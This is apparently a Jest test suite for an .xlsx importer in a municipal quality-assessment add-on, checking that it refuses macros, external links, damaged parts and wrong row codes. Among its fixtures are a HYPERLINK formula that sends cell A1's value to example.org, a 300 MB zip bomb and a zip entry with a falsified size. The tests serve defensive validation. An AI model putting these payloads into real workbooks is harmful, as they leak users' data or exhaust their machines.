import ExcelJs, { type Workbook } from 'exceljs';
import type { HeadlessHost } from '../../src/host/local/headless/create-headless-host';
import { listEntries, packEntries, unpackEntry } from '../../src/xlsx/archive/zip-entries';
import { importWorkbook } from '../../src/xlsx/import-workbook';
import { XlsxRefusal } from '../../src/xlsx/xlsx-refusal';
import { openAddon } from '../journeys/open-addon';
import { typeAt } from '../journeys/score-rows';
import { exported, newBook } from './books';

// Whole workbooks are built and calculated here; a busy machine needs its time.
jest.setTimeout(300_000);

let good: Uint8Array;
let host: HeadlessHost;

beforeAll(async () => {
  host = await openAddon({ snapshot: await newBook('municipal-model', ['2.4']) });
  typeAt(host, '2.4 Оценка', '2.4.1.01', 'answer', '1');
  good = await exported(host);
});

async function refusal(bytes: Uint8Array): Promise<XlsxRefusal> {
  try {
    await importWorkbook(bytes);
  } catch (error) {
    if (error instanceof XlsxRefusal) return error;
    throw error;
  }
  throw new Error('the file was taken');
}

/** The good file with parts added or replaced. */
function withParts(parts: Record<string, string | Uint8Array>): Uint8Array {
  const own = listEntries(good).map((entry) => ({ name: entry.name, data: unpackEntry(good, entry) }));
  const added = Object.entries(parts).map(([name, data]) => ({
    name,
    data: typeof data === 'string' ? new TextEncoder().encode(data) : data,
  }));
  return packEntries([...own.filter(({ name }) => !(name in parts)), ...added]);
}

/** The good file after a change by another program. */
async function changed(change: (book: Workbook) => void): Promise<Uint8Array> {
  const book = new ExcelJs.Workbook();
  await book.xlsx.load(good as unknown as Parameters<typeof book.xlsx.load>[0]);
  change(book);
  return new Uint8Array(await book.xlsx.writeBuffer());
}

const sheet = (book: Workbook) => {
  const found = book.getWorksheet('2.4 Оценка');
  if (!found) throw new Error('no sheet');
  return found;
};

test('the file that the others are made of is taken', async () => {
  await expect(importWorkbook(good)).resolves.toMatchObject({ file: { format: 'mcqm-workbook/1' }, remarks: [] });
});

describe('what is no spreadsheet', () => {
  test.each([
    ['a text file', new TextEncoder().encode('Это просто текст'), 'внутри другой формат'],
    ['an empty file', new Uint8Array(), 'файл пуст'],
    ['an old .xls or a locked file', Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1]), 'старый формат .xls'],
    [
      'a .docx',
      packEntries([{ name: 'word/document.xml', data: new Uint8Array(3) }]),
      'нет листов электронной таблицы',
    ],
    ['an .ods', packEntries([{ name: 'mimetype', data: new Uint8Array(3) }]), 'OpenDocument'],
  ])('%s is refused with what it is', async (_name, bytes, found) => {
    const error = await refusal(bytes);
    expect(error.code).toBe('no-spreadsheet');
    expect(error.sentence).toContain(found);
    expect(error.next).toBe('Откройте файл в своей программе и сохраните его как «Книга Excel (.xlsx)», без пароля.');
  });

  test('half of a file is refused', async () => {
    expect((await refusal(good.slice(0, good.length / 2))).code).toBe('no-spreadsheet');
  });

  test('a file with a spoilt part is refused as damaged', async () => {
    const spoilt = good.slice();
    const entry = listEntries(good).find(({ name }) => name === 'xl/workbook.xml');
    spoilt.fill(0xff, (entry?.offset ?? 0) + 60, (entry?.offset ?? 0) + 120);
    expect((await refusal(spoilt)).code).toBe('damaged');
  });

  test('a file whose table is no XML is refused as damaged', async () => {
    expect((await refusal(withParts({ 'xl/worksheets/sheet1.xml': '<worksheet><sheetData><row' }))).code).toBe(
      'damaged',
    );
  });
});

describe('what may do harm', () => {
  test.each([
    ['a macro', { 'xl/vbaProject.bin': 'x' }, 'macros', 'есть макросы (xl/vbaProject.bin)'],
    ['an old macro sheet', { 'xl/macrosheets/sheet1.xml': 'x' }, 'macros', 'есть макросы'],
    [
      'a file that only says that it has macros',
      {
        '[Content_Types].xml':
          '<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
      },
      'macros',
      'файл объявлен книгой с макросами',
    ],
    [
      'a link to another file',
      { 'xl/externalLinks/externalLink1.xml': 'x' },
      'external-links',
      'берёт данные из других файлов',
    ],
    ['a connection to a server', { 'xl/connections.xml': 'x' }, 'external-links', 'из сети (xl/connections.xml)'],
  ])('%s is refused', async (_name, parts, code, found) => {
    const error = await refusal(withParts(parts as Record<string, string>));
    expect(error.code).toBe(code);
    expect(error.sentence).toContain(found);
  });

  test('300 MB packed into a few hundred kilobytes are refused before they are unpacked', async () => {
    const before = process.memoryUsage().rss;
    const bomb = withParts({ 'xl/media/image1.bin': new Uint8Array(300 * 1_048_576) });
    const error = await refusal(bomb);
    expect(error.sentence).toMatch(/^Файл слишком велик: в распакованном виде 30\d МБ\./);
    expect(process.memoryUsage().rss - before).toBeLessThan(1_500 * 1_048_576);
  });

  test('a part that shrinks more than any table does is refused', async () => {
    const error = await refusal(withParts({ 'xl/worksheets/sheet99.xml': new Uint8Array(20 * 1_048_576) }));
    expect(error.sentence).toContain('часть xl/worksheets/sheet99.xml распаковывается в 20 МБ');
  });

  test('a part that holds more than the directory says is refused', async () => {
    const lying = withParts({ 'xl/media/big.bin': new Uint8Array(4 * 1_048_576) });
    const view = new DataView(lying.buffer);
    const at = Buffer.from(lying).lastIndexOf('xl/media/big.bin') - 46;
    view.setUint32(at + 24, 100, true);
    expect((await refusal(lying)).sentence).toContain('часть xl/media/big.bin не распаковывается');
  });

  test('a large file is refused by its size alone', async () => {
    expect((await refusal(new Uint8Array(26 * 1_048_576))).sentence).toContain('26 МБ');
  });
});

describe('what would spoil the numbers', () => {
  test('somebody else’s workbook is refused, with its sheets named', async () => {
    const book = new ExcelJs.Workbook();
    book.addWorksheet('Бюджет').getCell('A1').value = 'Статья';
    book.addWorksheet('Штат');
    const error = await refusal(new Uint8Array(await book.xlsx.writeBuffer()));
    expect(error.code).toBe('not-ours');
    expect(error.sentence).toBe('В книге нет листов МСОКО: есть «Бюджет», «Штат».');
  });

  test('a workbook of a later version is refused', async () => {
    const later = await changed((book) => {
      const notes = book.getWorksheet('_xlsx');
      if (notes) notes.getCell('A1').value = 'mcqm-xlsx/2';
    });
    expect((await refusal(later)).code).toBe('other-version');
  });

  test('a deleted row is refused, with its code', async () => {
    const error = await refusal(await changed((book) => sheet(book).spliceRows(8, 1)));
    expect([error.code, error.sentence]).toEqual([
      'code-missing',
      'На листе оценки не хватает строк: нет кода 2.4.1.03 на листе «2.4 Оценка». Без них итоги были бы не о той методике, книга не открыта.',
    ]);
  });

  test('a code that stands twice is refused, with both rows', async () => {
    const error = await refusal(
      await changed((book) => {
        sheet(book).getCell('A7').value = '2.4.1.01';
      }),
    );
    expect([error.code, error.sentence]).toEqual([
      'code-twice',
      'Код позиции стоит дважды: 2.4.1.01 на листе «2.4 Оценка», строки 6 и 7. Какой из ответов верный, программа не решает, книга не открыта.',
    ]);
  });

  test('a code that the pinned rubric does not know is refused', async () => {
    const error = await refusal(
      await changed((book) => {
        sheet(book).getCell('A7').value = '2.4.1.77';
      }),
    );
    expect(error.sentence).toContain('2.4.1.77 на листе «2.4 Оценка», строка 7');
  });

  test.each([
    ['a title of a document', 'Документы', 'C5', 'HYPERLINK("http://example.org/?"&A1,"Приказ")'],
    ['the text of a position', '2.4 Оценка', 'D6', '"балл"&A1'],
    ['a code', '2.4 Оценка', 'A6', '"2.4.1.01"'],
  ])('a formula in the place of %s is refused, with its cell', async (_name, on, cell, formula) => {
    const error = await refusal(
      await changed((book) => {
        const found = book.getWorksheet(on);
        if (found) found.getCell(cell).value = { formula, result: '2.4.1.01' };
      }),
    );
    expect(error.code).toBe('formula-in-text');
    expect(error.sentence).toContain(`ячейка ${cell} листа «${on}»`);
  });

  test('nobody is locked out of his own file: what was wrong when it was saved is let in again', async () => {
    host.type('2.4 Оценка', 'A7', '2.4.1.01');
    host.type('Документы', 'C5', '=1+1');
    const own = (await importWorkbook(await exported(host))).file;
    const back = await openAddon({ snapshot: own });
    await back.settle();
    expect(
      back
        .read('2.4 Оценка', 'G6:G7')
        .flat()
        .map(({ value }) => value),
    ).toEqual(['⚠ код 2.4.1.01 стоит дважды', '⚠ код 2.4.1.01 стоит дважды']);
  });
});
